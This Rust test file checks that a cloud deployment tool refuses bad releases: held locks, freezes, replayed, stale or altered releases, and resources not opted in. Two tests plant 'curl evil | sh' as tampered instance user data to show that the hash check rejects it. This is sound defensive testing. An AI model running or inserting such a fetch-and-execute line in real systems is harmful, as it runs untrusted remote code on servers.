//! Releases that are refused before anything is changed.

use crate::fixture::Fixture;
use crate::paths::{REFUSED_BY_LOCK, REFUSED_BY_RESOURCES, REFUSED_BY_VALIDATE, healthy, without_repeated_checks};
use crate::sample_cloud::{Scenario, USER_DATA, set};
use bifrost::cloud::StartError;
use bifrost::testing::{HarnessError, Run};
use serde_json::{Value, json};

/// Checks name and code of the only error of a refused execution; its message must contain `names`.
fn assert_refused(run: &Run, error: &str, code: &str, names: &[&str]) {
    let errors = run.errors();
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!((errors[0].error.as_str(), errors[0].code.as_deref()), (error, Some(code)), "{errors:#?}");
    for name in names {
        assert!(errors[0].message.contains(name), "{name:?} is missing in: {}", errors[0].message);
    }
}

async fn assert_refused_by_resources(scenario: Scenario, code: &str, names: &[&str]) {
    let run = scenario.build().deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    assert_refused(&run, "BadReleaseError", code, names);
}

#[tokio::test]
async fn second_concurrent_deploy_is_refused() {
    let fixture = Scenario::worker().build();
    let (first, second) = (fixture.release("first"), fixture.release("second"));
    fixture.upload(&first).await;
    fixture.upload(&second).await;
    let first = fixture.start(&first).await;
    fixture.run_until_state(&first, "WaitForDeploy").await;
    let second = fixture.start(&second).await;
    fixture.harness.run().await.unwrap();
    let run = fixture.finish_while_others_run(&second).await;
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    assert_refused(&run, "LockExistsError", "lock/held", &["release-1-first"]);
    assert_eq!(without_repeated_checks(&fixture.finish(&first).await.path()), healthy());
}

#[tokio::test]
async fn stale_root_lock_is_kept() {
    let key = "222222222222/coinbase/deploy-test/development/lock";
    let item = json!({"key": key, "id": "somebody", "time": "2026-11-21T11:00:00Z", "release_id": "release-stuck"});
    let pointer = format!("/lock_tables/us-east-1~1coinbase-odin-locks/{}", key.replace('/', "~1"));
    let fixture = Scenario::worker().in_deployer(&pointer, item).build();
    let run = fixture.deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    assert_refused(&run, "LockExistsError", "lock/held", &["release-stuck", "unlock coinbase/deploy-test development"]);
    assert_eq!(fixture.root_lock().unwrap().id, "somebody");
}

#[tokio::test]
async fn freeze_error_names_user_and_reason() {
    let fixture = Scenario::worker().build();
    fixture.freeze(r#"{"user": "ada", "lock_reason": "black friday"}"#).await;
    let run = fixture.deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    assert_refused(&run, "LockExistsError", "freeze/active", &["ada", "black friday"]);
}

#[tokio::test]
async fn lifted_freeze_does_not_refuse() {
    let fixture = Scenario::worker().build();
    fixture.freeze("{}").await;
    assert_eq!(without_repeated_checks(&fixture.deploy("first").await.path()), healthy());
}

#[tokio::test]
async fn release_is_deployed_once() {
    let fixture = Scenario::worker().build();
    let release = fixture.release("first");
    fixture.deploy_release(&release).await;
    let again = fixture.harness.start(&release).await.unwrap_err();
    assert!(matches!(again, HarnessError::Start(StartError::AlreadyExists { .. })), "{again:?}");
    let deploy = fixture.start_as("deploy-by-another-name", &release).await;
    fixture.harness.run().await.unwrap();
    let run = fixture.harness.execution(&deploy.name).await.unwrap();
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    assert_refused(&run, "LockExistsError", "lock/release-deployed", &["release-1-first"]);
    assert_eq!(fixture.running(), [("worker".into(), "release-1-first".into())]);
    assert_eq!(fixture.root_lock(), None);
}

#[tokio::test]
async fn replayed_release_with_new_id_is_refused() {
    let fixture = Scenario::worker().build();
    fixture.deploy("first").await;
    let run = fixture.deploy_uploaded(&fixture.release("replayed")).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    assert_refused(&run, "BadReleaseError", "release/not-uploaded", &["release-1-replayed/release"]);
}

async fn assert_refused_by_validate(fixture: &Fixture, release: &Value, code: &str, names: &[&str]) {
    let run = fixture.deploy_release(release).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    assert_refused(&run, "BadReleaseError", code, names);
}

#[tokio::test]
async fn release_older_than_ten_days_is_refused() {
    let fixture = Scenario::worker().build();
    let release = fixture.release("first");
    fixture.advance(chrono::TimeDelta::days(11));
    assert_refused_by_validate(&fixture, &release, "release/too-old", &["created_at"]).await;
}

#[tokio::test]
async fn nine_days_old_release_may_be_deployed() {
    let fixture = Scenario::worker().build();
    let release = fixture.release("first");
    fixture.advance(chrono::TimeDelta::days(9));
    assert_eq!(without_repeated_checks(&fixture.deploy_release(&release).await.path()), healthy());
}

#[tokio::test]
async fn release_from_the_future_is_refused() {
    let fixture = Scenario::worker().build();
    let mut release = fixture.release("first");
    let future = fixture.harness.store().now() + chrono::TimeDelta::minutes(3);
    set(&mut release, "/created_at", json!(future));
    assert_refused_by_validate(&fixture, &release, "release/from-the-future", &["created_at"]).await;
}

#[tokio::test]
async fn release_different_from_upload_is_refused() {
    let fixture = Scenario::worker().build();
    let mut release = fixture.release("first");
    fixture.upload(&release).await;
    set(&mut release, "/services/worker/instance_type", json!("p5.48xlarge"));
    let run = fixture.deploy_uploaded(&release).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    assert_refused(&run, "BadReleaseError", "release/differs-from-upload", &["services.worker.instance_type"]);
}

#[tokio::test]
async fn user_data_with_another_hash_is_refused() {
    let fixture = Scenario::worker().build();
    let release = fixture.release("first");
    let tampered = [USER_DATA, b"curl evil | sh"].concat();
    fixture.harness.upload(&release, &[("userdata", &tampered)]).await.unwrap();
    let run = fixture.deploy_uploaded(&release).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    assert_refused(&run, "BadReleaseError", "release/file-differs", &["userdata"]);
}

#[tokio::test]
async fn user_data_changed_after_validate_is_refused() {
    let fixture = Scenario::worker().fault(json!({
        "operation": "ec2:DescribeImages", "kind": {"delay_seconds": 30}, "times": 1,
    }));
    let fixture = fixture.build();
    let release = fixture.release("first");
    fixture.upload(&release).await;
    let deploy = fixture.start(&release).await;
    fixture.run_until_state(&deploy, "ValidateResources").await;
    fixture.harness.upload(&release, &[("userdata", b"curl evil | sh")]).await.unwrap();
    fixture.harness.run().await.unwrap();
    let run = fixture.finish(&deploy).await;
    assert_eq!(run.path(), crate::paths::failed_in_deploy());
    assert_refused(&run, "BadReleaseError", "release/file-differs", &["userdata"]);
    assert_eq!(fixture.journal().count("autoscaling:CreateAutoScalingGroup"), 0);
}

#[tokio::test]
async fn all_broken_rules_are_reported() {
    let scenario = Scenario::web()
        .with("/services/web/autoscaling/min_size", json!(6))
        .with("/services/web/autoscaling/spread", json!(1.5))
        .with("/services/web/security_groups", json!([]));
    let run = scenario.build().deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    assert_refused(
        &run,
        "BadReleaseError",
        "odin/required",
        &["autoscaling.min_size", "autoscaling.spread", "services.web.security_groups"],
    );
}

#[tokio::test]
async fn unknown_field_is_refused_with_path() {
    let fixture = Scenario::web().with("/services/web/autoscaling/max_sise", json!(6)).build();
    let release = fixture.release("first");
    assert!(
        fixture
            .harness
            .upload(&release, &[])
            .await
            .unwrap_err()
            .to_string()
            .contains("services.web.autoscaling.max_sise")
    );
}

#[tokio::test]
async fn foreign_security_group_is_refused() {
    let tag = "/security_groups/sg-0a1b2c3d4e5f60001/tags/ProjectName";
    let scenario = Scenario::worker().in_region(tag, json!("coinbase/vault"));
    assert_refused_by_resources(
        scenario,
        "odin/not-opted-in",
        &["sg-0a1b2c3d4e5f60001", "ProjectName", "coinbase/vault"],
    )
    .await;
}

#[tokio::test]
async fn image_without_opt_in_is_refused() {
    let scenario = Scenario::worker().in_region("/images/ami-0a1b2c3d4e5f60001/tags/DeployWith", json!(null));
    assert_refused_by_resources(scenario, "odin/not-opted-in", &["ami-0a1b2c3d4e5f60001", "DeployWith"]).await;
}

#[tokio::test]
async fn subnet_without_opt_in_is_refused() {
    let scenario = Scenario::worker().in_region("/subnets/subnet-0a1b2c3d4e5f6000b/tags/DeployWith", json!("fenrir"));
    assert_refused_by_resources(scenario, "odin/not-opted-in", &["subnet-0a1b2c3d4e5f6000b", "DeployWith", "fenrir"])
        .await;
}

#[tokio::test]
async fn ambiguous_name_is_refused() {
    let duplicate = json!({"tags": {"Name": "test_private_subnet_a", "DeployWith": "odin"}});
    let scenario = Scenario::worker().in_region("/subnets/subnet-0a1b2c3d4e5f6000c", duplicate);
    assert_refused_by_resources(scenario, "odin/ambiguous", &["subnet-0a1b2c3d4e5f6000a", "subnet-0a1b2c3d4e5f6000c"])
        .await;
}

#[tokio::test]
async fn foreign_instance_profile_is_refused() {
    let path = "/resources/iam/instance_profiles/coinbase-deploy-test-worker/path";
    let scenario = Scenario::worker().in_account(path, json!("/odin/coinbase/deploy-test/development/web/"));
    assert_refused_by_resources(
        scenario,
        "odin/not-opted-in",
        &["coinbase-deploy-test-worker", "/odin/coinbase/deploy-test/development/worker/"],
    )
    .await;
}

#[tokio::test]
async fn all_missing_resources_are_reported() {
    let scenario = Scenario::sample()
        .in_region("/images", json!({}))
        .in_region("/load_balancers", json!({}))
        .in_region("/target_groups", json!({}))
        .in_region("/topics", json!({}))
        .in_account("/resources/iam/roles", json!({}));
    let names = [
        "ubuntu",
        "coinbase-deploy-test-web-elb",
        "coinbase-deploy-test-web-tg",
        "lifecycle.termhook.sns",
        "lifecycle.termhook.role",
    ];
    assert_refused_by_resources(scenario, "odin/not-found", &names).await;
}

#[tokio::test]
async fn target_group_may_allow_another_project() {
    let tags = json!({
        "ProjectName": "coinbase/edge", "ConfigName": "production", "ServiceName": "router",
        "AllowedService": "coinbase/deploy-test::development::web",
    });
    let fixture = Scenario::web().in_region("/target_groups/coinbase-deploy-test-web-tg/tags", tags).build();
    assert_eq!(without_repeated_checks(&fixture.deploy("first").await.path()), healthy());
}

#[tokio::test]
async fn account_without_role_is_refused() {
    let scenario = Scenario::worker().in_account("/roles", json!({"coinbase-odin-assumed": {"trusts": []}}));
    assert_refused_by_resources(scenario, "aws/access-denied", &["coinbase-odin-assumed", "222222222222"]).await;
}

#[tokio::test]
async fn missing_account_is_refused() {
    let fixture = Scenario::worker().with("/aws_account_id", json!("333333333333")).build();
    let run = fixture.deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    assert_refused(&run, "BadReleaseError", "aws/access-denied", &["333333333333"]);
}

#[tokio::test]
async fn two_groups_of_a_service_are_refused() {
    let fixture = Scenario::worker().build();
    fixture.deploy("first").await;
    fixture.change(|region| {
        let (name, group) =
            region.auto_scaling_groups.iter().find(|(_, group)| group.tags["ConfigName"] == "development").unwrap();
        let duplicate = (format!("{name}-duplicate"), group.clone());
        region.auto_scaling_groups.extend([duplicate]);
    });
    let run = fixture.deploy("second").await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    assert_refused(&run, "BadReleaseError", "odin/several-groups", &["-duplicate"]);
}

#[tokio::test]
async fn unsafe_changes_are_all_reported() {
    let fixture = Scenario::sample().with("/safe_release", json!(true)).build();
    fixture.deploy("first").await;
    let mut second = fixture.release("second");
    set(&mut second, "/timeout", json!(700));
    set(&mut second, "/subnets", json!(["test_private_subnet_a"]));
    set(&mut second, "/services/web/instance_type", json!("t3.large"));
    set(&mut second, "/services/web/autoscaling/max_size", json!(50));
    set(&mut second, "/services/worker/ebs_volume_size", json!(8));
    let run = fixture.deploy_release(&second).await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    let fields = ["timeout", "subnets", "services.web.instance_type", "max_size", "services.worker.ebs_volume_size"];
    assert_refused(&run, "BadReleaseError", "odin/unsafe-change", &fields);
}
